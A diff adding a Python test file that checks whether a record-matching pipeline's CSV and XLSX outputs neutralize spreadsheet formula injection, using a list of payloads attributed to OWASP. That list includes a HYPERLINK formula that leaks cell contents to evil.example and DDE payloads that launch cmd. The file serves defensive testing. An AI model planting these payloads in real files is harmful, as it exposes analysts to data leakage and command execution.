@@ -1,0 +1,118 @@
+"""Every cell of every output is inert in a spreadsheet: no formula, no hyperlink, no DDE."""
+
+from __future__ import annotations
+
+import csv
+import re
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from tinmatch.pipeline.neutralize import neutralize
+from tinmatch.pipeline.write import ResultWriter
+
+FIELDS = ("street", "address_line2", "city", "state", "zip", "tax_year")
+
+#: Payloads from the OWASP CSV-injection page and friends.
+PAYLOADS = [
+    "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1",
+    "\u2003=1+1", "\ufeff=1+1", "\u200b@SUM(1)", "\uff1d1+1", "\uff0b1", "\uff20SUM(1)",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0",
+    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0", "x cmd|'/C calc'!A0", "=IMPORTXML(CONCAT(\"http://\"),\"//a\")",
+    "http://evil.example/track", "mailto:a@evil.example", "-", "+", "=", "@",
+]  # fmt: skip
+
+
+def dangerous(text: str) -> bool:
+    """Would a spreadsheet read ``text`` as something live?"""
+    return neutralize(text) != text
+
+
+def write_result(out: Path, texts: list[str]) -> Path:
+    writer = ResultWriter(out, FIELDS)
+    n = len(texts)
+    writer.add_matched(pd.DataFrame({
+        "record_id": texts, "street": texts, "address_line2": texts, "city": texts,
+        "state": texts, "zip": texts, "tax_year": [2024] * n, "match_probability": [0.999] * n,
+    }))
+    writer.add_rejected(pd.DataFrame({
+        "record_id": texts, "reason_codes": ["invalid_value"] * n, "fields": texts,
+        "message": texts, "_row": list(range(2, n + 2)),
+    }))
+    writer.add_unmatched(pd.DataFrame({
+        "record_id": texts, "reason_code": ["no_candidate"] * n, "message": texts,
+    }))
+    writer.close({"request_id": texts[0], "note": texts[-1]})
+    return out
+
+
+def assert_inert(out: Path) -> int:
+    """Check every CSV and XLSX cell; return how many text cells were looked at."""
+    seen = 0
+    for name in ("matched", "rejected", "unmatched"):
+        with (out / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
+            for record in csv.reader(handle):
+                for value in record:
+                    assert not dangerous(value), (name, value)
+                    seen += 1
+    book = openpyxl.load_workbook(out / "result.xlsx")
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                assert cell.hyperlink is None, (sheet.title, cell.coordinate)
+                if isinstance(cell.value, str):
+                    assert not dangerous(cell.value), (sheet.title, cell.coordinate, cell.value)
+                    seen += 1
+    with zipfile.ZipFile(out / "result.xlsx") as archive:
+        names = archive.namelist()
+        assert not [n for n in names if "externalLink" in n or "vbaProject" in n]
+        for sheet_xml in (n for n in names if n.startswith("xl/worksheets/")):
+            xml = archive.read(sheet_xml).decode()
+            assert not re.search(r"<f[ >]", xml), sheet_xml
+            assert "<hyperlink" not in xml, sheet_xml
+    return seen
+
+
+def test_known_payloads_are_neutralized_everywhere(tmp_path: Path) -> None:
+    assert all(dangerous(p) for p in PAYLOADS if not p.startswith(("http", "mailto")))
+    out = write_result(tmp_path / "out", PAYLOADS)
+    assert assert_inert(out) > 10 * len(PAYLOADS)
+    book = openpyxl.load_workbook(out / "result.xlsx")
+    matched = book["matched"]
+    # Text survives, visibly marked: the analyst sees the requester's value, inert.
+    assert matched.cell(row=2, column=1).value == "'=1+1"
+    assert matched.cell(row=2, column=7).value == 2024  # numbers stay numbers
+
+
+_text = st.text(
+    alphabet=st.one_of(
+        st.sampled_from(list("=+-@|!'\"\t\r\n ,;()A1") + ["\u00a0", "\ufeff", "\uff1d"]),
+        st.characters(codec="utf-8", exclude_characters="\x00"),
+    ),
+    min_size=1,
+    max_size=30,
+)
+
+
+@settings(max_examples=25, deadline=None)
+@given(st.lists(_text, min_size=1, max_size=8))
+def test_any_text_is_written_inert(texts: list[str]) -> None:
+    import tempfile
+
+    with tempfile.TemporaryDirectory() as tmp:
+        assert_inert(write_result(Path(tmp) / "out", texts))
+
+
+@settings(max_examples=300, deadline=None)
+@given(_text)
+def test_neutralize_is_idempotent_and_keeps_the_text(text: str) -> None:
+    once = neutralize(text)
+    assert neutralize(once) == once
+    assert once in (text, "'" + text)
+    stripped = once.lstrip(" \t\r\n\u00a0\u3000\u2003\ufeff\u200b")
+    assert once.startswith("'") or not stripped.startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20"))
